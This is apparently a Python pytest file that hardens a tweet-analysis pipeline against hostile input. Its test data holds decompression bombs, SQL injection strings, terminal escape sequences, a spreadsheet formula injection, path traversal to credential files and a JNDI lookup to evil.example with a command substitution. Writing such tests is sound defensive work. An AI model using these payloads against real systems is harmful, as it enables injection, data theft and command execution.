"""Files and texts made to do harm: bombs, formulas, SQL, terminal codes and paths do nothing."""

import bz2
import gzip
import io
import json
import lzma
import re
import resource
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline import posts
from pipeline.errors import InputError
from pipeline.export import Filters, select_tweets, write_relation
from pipeline.readers import open_reader
from pipeline.store import P_LABELS, SENTIMENTS, building, connect

Mmx = Callable[..., subprocess.CompletedProcess[str]]

UNPACKED = 60_000_000  # bytes of each compressed file
STEERING = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]")
# Clears the screen, turns red, sets the window's title, C1's short form of it, and turns the writing round.
ANSI = "\x1b[2J\x1b[31m\x1b]0;owned\x07\x9b31m\u202egnp.exe\u2066"
HOSTILE = [
    f"{ANSI} the shop was closed",
    "'; DROP TABLE tweets; --",
    "\"; ATTACH '/tmp/x.duckdb'; SELECT \"",
    "=cmd|'/c calc'!A1",
    "../../../../etc/passwd",
    "%' OR 1=1 OR '%",
    "${jndi:ldap://evil.example} {{7*7}} $(touch owned)",
]


def zipped(content: bytes) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", content)
    return target.getvalue()


COMPRESSED: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "zip": (zipped, "an Excel or zip file"),
    "gzip": (gzip.compress, "compressed with gzip"),
    "bzip2": (bz2.compress, "compressed with bzip2"),
    "xz": (lambda content: lzma.compress(content, preset=0), "compressed with xz"),
}


@pytest.mark.parametrize("kind", COMPRESSED)
@pytest.mark.parametrize("name", ["tweets.csv", "tweets.jsonl", "tweets.parquet"])
def test_a_compressed_file_is_named_and_never_unpacked(tmp_path: Path, kind: str, name: str) -> None:
    compress, says = COMPRESSED[kind]
    path = tmp_path / name
    path.write_bytes(compress(bytes(UNPACKED)))
    assert path.stat().st_size < UNPACKED / 100
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(InputError, match=says):
        open_reader(path)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < UNPACKED / 2 / 1024


def test_a_parquet_page_that_repeats_a_text_of_a_megabyte_is_read_in_little_memory(tmp_path: Path) -> None:
    """One value in the page's dictionary, seven hundred references to it: 700 MB in 50 kB."""
    rows, size = 700, 1_000_000
    path = tmp_path / "tweets.parquet"
    texts = pa.DictionaryArray.from_arrays(pa.array([1] + [0] * rows, pa.int32()), ["a" * size, "short"])
    pq.write_table(pa.table({"text": texts.cast(pa.string())}), path)
    assert path.stat().st_size < 200_000
    program = """
import re, sys
from pathlib import Path
from pipeline.ingest import ColumnNames, read_tweets
rejects = []
found = read_tweets(Path(sys.argv[1]), columns=ColumnNames(), date_format=None, delimiter=None,
                    on_reject=rejects.append)
print(sum(len(table) for table in found), len(rejects), {reject.reason for reject in rejects},
      int(re.search(r"VmHWM:\\s*(\\d+)", Path("/proc/self/status").read_text())[1]) // 1024)
"""
    done = subprocess.run(
        [sys.executable, "-c", program, path], capture_output=True, text=True, check=False, timeout=300
    )
    assert done.returncode == 0, done.stderr
    *told, peak = done.stdout.split()
    assert " ".join(told) == f"1 {rows} {{'text of over 25,000 characters'}}"
    assert int(peak) < 450, "the page was unpacked as a whole"


def test_one_giant_text_costs_the_others_of_its_page_nothing(tmp_path: Path) -> None:
    """Arrow would reserve its length for each of the rows beside it: 10 GB."""
    path = tmp_path / "tweets.parquet"
    texts = ["a" * 100_000_000, *(["Lovely coat", "caf\xe9", None] * 400)]
    pq.write_table(pa.table({"text": texts}), path)
    program = """
import resource, sys
from pathlib import Path
from pipeline.ingest import ColumnNames, read_tweets
resource.setrlimit(resource.RLIMIT_AS, (2_500_000_000, 2_500_000_000))
found = read_tweets(Path(sys.argv[1]), columns=ColumnNames(), date_format=None, delimiter=None,
                    on_reject=lambda _: None)
texts = [text for table in found for text in table.column("text").to_pylist()]
print(len(texts), *sorted(set(texts)))
"""
    done = subprocess.run(
        [sys.executable, "-c", program, path], capture_output=True, text=True, check=False, timeout=300
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "800 Lovely coat caf\xe9"


@pytest.mark.parametrize(
    ("content", "says"),
    [
        ('{"text": "a"}\n' + "".join(f'{{"k{i}": 1}}\n' for i in range(2_500)), "different keys"),
        ('{"text": ' + "9" * 100_000 + "}", "not JSON"),
        ("[" * 100_000, "not JSON|holds no tweets"),
    ],
)
def test_json_made_to_exhaust_the_reader_is_refused(tmp_path: Path, content: str, says: str) -> None:
    path = tmp_path / "tweets.jsonl"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(InputError, match=says):
        open_reader(path)


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store in whose every text somebody else wrote something hostile; its own name is no better."""
    path = tmp_path_factory.mktemp("hostile") / "it's'; DROP TABLE tweets; --.duckdb"
    with building(path) as connection:
        for number, text in enumerate(HOSTILE):
            brand_id = f"brand-{number}"
            connection.execute("INSERT INTO brands VALUES (?, ?, ?, ?)", [brand_id, text, text, text])
            connection.execute(
                """INSERT INTO topics (topic_id, label, keywords, size, x, y, embedding)
                VALUES (?, ?, [?], 30, 0, 0, ?)""",
                [number, f"{text} label", text, [0.0] * 384],
            )
            for i in range(30):
                tweet_id, negative = f"{number}-{i}-{text}", i < 20
                connection.execute(
                    "INSERT INTO tweets VALUES (?, ?, TIMESTAMP '2026-09-01' + to_days(?), ?, 'en', ?, 1, 1, NULL)",
                    [tweet_id, tweet_id, i, text, text],
                )
                connection.execute("INSERT INTO mentions VALUES (?, ?)", [tweet_id, brand_id])
                connection.execute(
                    "INSERT INTO classifications VALUES (?, ?, .1, .9, .1, .1, false, true, false, false)",
                    [tweet_id, text],
                )
                sentiment = "negative" if negative else "positive"
                connection.execute(
                    "INSERT INTO sentiments VALUES (?, ?, ?, NULL, NULL, NULL, ?)",
                    [tweet_id, -0.5 if negative else 0.5, sentiment, sentiment],
                )
                connection.execute(
                    "INSERT INTO tweet_topics VALUES (?, ?, .9, 0, 0, ?)",
                    [tweet_id, number if negative else -1, number],
                )
        posts.rebuild(connection)
    return path


def test_what_the_terminal_shows_does_not_steer_it(db: Path, mmx: Mmx) -> None:
    ranked = mmx("painpoints", "--db", db, "--brand", HOSTILE[0])
    listed = mmx("topics", "--db", db)
    refused = mmx("painpoints", "--db", db, "--brand", f"{ANSI}nobody")
    assert (ranked.returncode, listed.returncode, refused.returncode) == (0, 0, 2), ranked.stderr
    for shown in (ranked.stdout, listed.stdout, refused.stderr):
        assert "[31m" in shown, "the text is not there at all"
        assert not STEERING.search(shown), shown


def test_json_says_all_of_a_text_and_steers_no_terminal(db: Path, mmx: Mmx) -> None:
    for arguments in (["topics", "--db", db], ["painpoints", "--db", db, "--brand", HOSTILE[0]]):
        done = mmx(*arguments, "--json")
        assert not STEERING.search(done.stdout)
        assert f"{HOSTILE[0]} label" in [topic["label"] for topic in json.loads(done.stdout)]


def test_what_a_run_says_of_a_file_does_not_steer_the_terminal(tmp_path: Path, mmx: Mmx) -> None:
    path = tmp_path / "tweets.csv"
    path.write_text(f'text,{ANSI},{ANSI},date\n"a",b,c,{ANSI}\nd\n', encoding="utf-8")
    done = mmx("classify", path, "-o", tmp_path / "out.csv")
    assert done.returncode == 0, done.stderr
    assert "several columns are called" in done.stderr
    assert not STEERING.search(done.stderr), done.stderr


@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".parquet", ".xlsx"])
def test_names_of_files_are_names_and_no_sql(db: Path, tmp_path: Path, mmx: Mmx, suffix: str) -> None:
    output = tmp_path / f"o'; COPY tweets TO 'owned.csv'; --{suffix}"
    before = sorted(path.name for path in db.parent.iterdir())
    done = mmx("export", "--db", db, "-o", output)
    assert done.returncode == 0, done.stderr
    assert [path.name for path in tmp_path.iterdir()] == [output.name]
    assert sorted(path.name for path in db.parent.iterdir()) == before
    assert not Path("owned.csv").exists()


@pytest.mark.parametrize("text", HOSTILE)
def test_every_filter_takes_hostile_words_as_words(db: Path, text: str) -> None:
    with connect(db) as connection:
        assert len(select_tweets(connection, Filters(brands=[text]))) == 30
        for filters in (Filters(ps=[text]), Filters(sentiments=[text]), Filters(brands=[f"{text} and more"])):
            with pytest.raises(InputError):
                select_tweets(connection, filters)
        assert connection.execute("SELECT count(*) FROM tweets").fetchall() == [(30 * len(HOSTILE),)]


WORDS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=20)


@given(
    brands=st.lists(st.sampled_from(HOSTILE) | WORDS, max_size=3),
    ps=st.lists(st.sampled_from(P_LABELS), max_size=3),
    sentiments=st.lists(st.sampled_from(SENTIMENTS), max_size=3),
    days=st.tuples(st.none() | st.dates(), st.none() | st.dates()),
)
@settings(deadline=None, max_examples=40)
def test_any_filters_give_the_tweets_they_name_or_are_refused(
    db: Path, brands: list[str], ps: list[str], sentiments: list[str], days: tuple[Any, Any]
) -> None:
    with connect(db) as connection:
        try:
            found = select_tweets(connection, Filters(brands, ps, *days, sentiments)).df()
        except InputError:
            assert any(brand.strip() not in HOSTILE for brand in brands)
            return
    assert found.tweet_id.is_unique
    assert set(found.sentiment) <= set(sentiments or SENTIMENTS)
    assert found.empty or not ps or "place" in ps
    if not (ps or sentiments or any(days)):
        wanted = {brand.strip().lower() for brand in brands}
        chosen = sum(text.lower() in wanted for text in HOSTILE) or (0 if brands else len(HOSTILE))
        assert len(found) == 30 * chosen


def test_no_cell_of_a_spreadsheet_is_a_formula_or_a_link(db: Path, tmp_path: Path) -> None:
    import openpyxl

    for suffix in (".csv", ".xlsx"):
        with connect(db) as connection:
            write_relation(select_tweets(connection, Filters()), tmp_path / f"all{suffix}")
    for line in (tmp_path / "all.csv").read_text(encoding="utf-8").splitlines():
        assert not re.search(r'(^|,)"?[=+@]', line), line
    sheet = openpyxl.load_workbook(tmp_path / "all.xlsx").active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert any(str(cell.value).startswith("=cmd") for cell in cells)
    assert all(cell.data_type != "f" and cell.hyperlink is None for cell in cells)


def test_a_link_out_of_the_folder_is_not_followed_by_an_upload(tmp_path: Path) -> None:
    from pipeline.jobs import safe_name

    for name in [
        "/etc/passwd",
        "..\\..\\boot.ini",
        "a/../../b.csv",
        f"{ANSI}.csv",
        "nul\0.csv",
        "~root/.ssh/id",
    ]:
        kept = safe_name(name)
        assert kept == Path(kept).name
        assert kept not in {"", ".", ".."}
        assert not STEERING.search(kept)
        assert (tmp_path / kept).resolve().parent == tmp_path.resolve()
